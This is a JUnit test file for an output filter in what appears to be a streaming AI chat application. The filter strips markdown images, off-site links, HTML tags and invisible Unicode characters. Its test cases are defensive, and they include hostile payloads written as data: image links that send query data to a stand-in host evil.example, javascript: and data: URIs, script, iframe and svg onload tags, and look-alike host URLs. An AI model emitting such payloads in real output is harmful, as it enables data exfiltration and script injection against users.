package dev.haystack.application.outgoing;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class TextFilterTest {

  private static final OutputRules RULES = new OutputRules(true, Set.of("help.example"));

  private static List<String> pieces(String... deltas) {
    List<String> pieces = new ArrayList<>();
    TextFilter filter = TextFilter.behindOthers(Set.of(), pieces::add);
    for (String delta : deltas) {
      filter.receive(delta);
    }
    filter.end();
    return pieces;
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      textBlock =
          """
          a ![x](https://evil.example/?d=1) b | a [image removed] b
          a ![x](/own.png) b | a [image removed] b
          [![x](https://evil.example/a.png)](https://evil.example/b) | [image removed] (https://evil.example/b)
          [a](https://evil.example/x) | a (https://evil.example/x)
          [a](<https://evil.example/x> "t") | a (https://evil.example/x)
          [a](//evil.example/x) | a (//evil.example/x)
          [https://evil.example](https://evil.example) | https://evil.example
          [a](/clients/1?tab=2#top) | [a](/clients/1?tab=2#top)
          [a](reports) | [a](reports)
          [a](https://help.example/x) | [a](https://help.example/x)
          [a](https://HELP.example:443/x) | [a](https://HELP.example:443/x)
          [a](https://help.example@evil.example/) | a (https://help.example@evil.example/)
          [a](https://help.example.evil.example/) | a (https://help.example.evil.example/)
          [a](javascript:alert(1)) | a
          [a](JaVaScRiPt:alert(1)) | a
          [a](&#106;avascript:alert(1)) | a
          [a](data:text/html,x) | a
          [a](/\\evil.example) | a
          [a](mailto:a@b.example) | [a](mailto:a@b.example)
          [a](tel:+44123) | [a](tel:+44123)
          [a] (https://evil.example) | [a] (https://evil.example)
          [a][1] [1]: https://evil.example/ | [a][1] [1] : https://evil.example/
          [1]: <https://evil.example/> | [1] : https://evil.example/
          [1]: https://evil.example/ x | [1] : https://evil.example/ x
          [1]: /\\evil.example/ x | [1] : /\\evil.example/ x
          [1]: /own/path is ours | [1]: /own/path is ours
          [a](/&#47;evil.example) | a
          [a](https://evilhelp.example/x) | a (https://evilhelp.example/x)
          <form action=//evil.example> | [removed]
          [Client name]: Bo Example | [Client name]: Bo Example
          [ ] to do, [x] done | [ ] to do, [x] done
          <img src="https://evil.example/?d=1"> | [image removed]
          <IMG/src=//evil.example> | [image removed]
          <svg onload=alert(1)>x</svg> | [image removed]x</svg>
          <script>alert(1)</script> | [removed]alert(1)</script>
          <iframe src=//evil.example></iframe> | [removed]</iframe>
          <a href="https://evil.example">a</a> | < a href="https://evil.example">a</a>
          <p onclick=x>a | < p onclick=x>a
          <b>bold</b><br/> and <br /> | <b>bold</b><br/> and <br />
          <https://evil.example/a?b=c> | https://evil.example/a?b=c
          <javascript:alert(1)> | [link removed]
          if a < b and c > d, 2<3 | if a < b and c > d, 2<3
          List<String> is a type | List<String> is a type
          Well! Done!! ![ | Well! Done!! ![
          [x](u)(https://evil.example) | [x](u)(https://evil.example)
          ![x](u)(https://evil.example) | [image removed] (https://evil.example)
          [x][](javascript:1)(https://evil.example) | [x] (https://evil.example)
          [x][(https://evil.example)](javascript:1) | [x] (https://evil.example)
          <[img src=x](javascript:1)> | < img src=x>
          [a [b](https://evil.example/1) c](https://evil.example/2) | a b (https://evil.example/1) c (https://evil.example/2)
          [a](https://evil.example/(x)y) | a (https://evil.example/(x)y)
          """)
  void nothingIsLoadedRunOrHidden(String text, String expected) {
    assertEquals(expected, RULES.of(text));
  }

  @Test
  void charactersThatHideOrTurnOthersAreDropped() {
    assertEquals("abcdefg", RULES.of("a\u202Eb\u2066c\u200Fd\uDB40\uDC41e\u0007f\uFEFFg"));
    String family =
        "\uD83D\uDC68\u200D\uD83D\uDC69 \u0645\u06CC\u200C\u062E \uD83D\uDE00\uDB40\uDD00";
    assertEquals(family, RULES.of(family));
    assertEquals("a\tb\r\nc", RULES.of("a\tb\r\nc"));
  }

  @Test
  void aLinkDoesNotGoOnBehindItsParagraph() {
    assertEquals("[a\n\nb] (https://evil.example)", RULES.of("[a\n\nb](https://evil.example)"));
  }

  @Test
  void whatIsTooLongToBeHeldIsBroken() {
    String text = "x".repeat(5_000);
    assertEquals(
        "[" + text + "] (https://e.example)", RULES.of("[" + text + "](https://e.example)"));
    assertEquals("[a] (" + text + ")", RULES.of("[a](" + text + ")"));
    assertEquals("< img " + text + ">", RULES.of("<img " + text + ">"));
  }

  @Test
  void ordinaryTextIsHandedOnAsItComes() {
    String[] deltas = {"Hello", " Jo", ", (see", " page 4): a", "\n\n- b", " 2 > 1 `x`"};
    List<String> pieces = pieces(deltas);
    assertEquals(List.of(deltas), pieces);
    for (int i = 1; i < deltas.length; i++) {
      assertSame(deltas[i], pieces.get(i));
    }
  }

  @Test
  void onlyWhatMayBeTheBeginningOfAFormWaits() {
    assertEquals(List.of("Well", "! Then"), pieces("Well!", " Then"));
    assertEquals(List.of("see ", "[1] there"), pieces("see [1", "]", " there"));
    assertEquals(List.of("a ", "< b"), pieces("a <", " b"));
    assertEquals(List.of("a ", "[image removed] b"), pieces("a !", "[x](https://e", ".example) b"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://evil.example/?d=secret",
        "[a](https://evil.example",
        "<img src=x",
        "<b"
      })
  void whatIsNotCompleteAtTheEndDoesNothing(String text) {
    String left = String.join("", pieces(text));
    assertTrue(left.contains("] (") || left.startsWith("< "), left);
  }

  @Test
  void twoAnswersOfOneTurnMakeNoFormTogether() {
    for (String form :
        List.of(
            "![x](https://evil.example)",
            "[a](https://evil.example)",
            "<img src=https://evil.example>",
            "[1]: https://evil.example")) {
      for (int i = 1; i < form.length(); i++) {
        String both =
            String.join("", pieces(form.substring(0, i)))
                + String.join("", pieces(form.substring(i)));
        assertFalse(ActiveForms.isIn(both), both);
      }
    }
  }

  @Test
  void switchedOffNothingIsLookedAt() {
    assertEquals("![x](https://e.example)", OutputRules.NONE.of("![x](https://e.example)"));
  }
}
